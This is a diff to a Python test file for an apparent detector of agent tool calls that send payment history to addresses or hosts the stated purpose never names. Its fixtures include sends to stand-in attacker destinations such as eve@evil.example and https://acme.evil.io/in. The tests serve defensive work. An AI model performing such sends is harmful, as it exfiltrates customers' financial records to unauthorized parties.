@@ -3,6 +3,7 @@
 import dataclasses
 import hashlib
 import json
+import tracemalloc
 from collections.abc import Callable
 from typing import Any
 
@@ -199,6 +200,16 @@ def test_words_of_the_purpose_in_a_strangers_address_make_it_none_that_was_spelt
         assert f"another address than {to}" in found.reason
 
 
+def test_a_long_address_in_a_purpose_takes_little_memory(act: Any, payments: Any, last: Any) -> None:
+    purpose = f"Send the payment history to Ann at https://{'a' * 8_000}.example/"
+    tracemalloc.start()
+    found = last(payments(purpose=purpose), act("email.send", {"to": "eve@evil.example"}, purpose=purpose))
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert found.value > 0.4
+    assert peak < 4_000_000
+
+
 def test_a_mail_house_that_is_open_to_anybody_answers_for_no_other_name(
     act: Any, payments: Any, last: Any
 ) -> None:
@@ -235,6 +246,21 @@ def test_another_place_on_the_host_that_is_spelt_out_is_meant_and_no_other_host(
     purpose = "Post the payment history to https://api.acme.example/v1"
     found = last(payments(purpose=purpose), act("http.post", {"url": url}, purpose=purpose))
     assert (found.value == 0.0) is meant
+
+
+@pytest.mark.parametrize(
+    ("at", "tool", "to", "meant"),
+    [
+        ("acme.desk.example", "email.send", "billing@acme.example", True),
+        ("hooks.acme.example", "email.send", "eve@acme-files.io", False),
+        ("acme.desk.example", "http.post", "https://acme.evil.io/in", False),
+    ],
+)
+def test_the_place_of_a_customer_at_a_supplier_answers_for_no_mail(
+    act: Any, payments: Any, last: Any, at: str, tool: str, to: str, *, meant: bool
+) -> None:
+    purpose = f"See https://{at}/t/4411 and send the payment history to Acme"
+    assert (last(payments(purpose=purpose), act(tool, {"to": to}, purpose=purpose)).value == 0.0) is meant
 
 
 def test_a_place_whose_name_looks_like_the_one_that_is_spelt_out_is_not_mentioned(
